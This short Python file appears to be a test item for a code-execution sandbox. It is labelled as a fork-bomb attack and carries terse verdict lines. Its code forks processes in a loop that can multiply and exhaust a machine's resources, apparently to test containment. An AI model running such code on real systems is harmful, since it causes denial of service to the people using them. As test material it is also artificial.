# attack: a fork bomb (of 1,000 processes, for the sake of a machine without walls)
# verdict: score or failed: .
# if failed: 4

# %% answer
import os
import time

answer = 41
for _ in range(1_000):
    if os.fork() == 0:
        time.sleep(600)
answer = 42
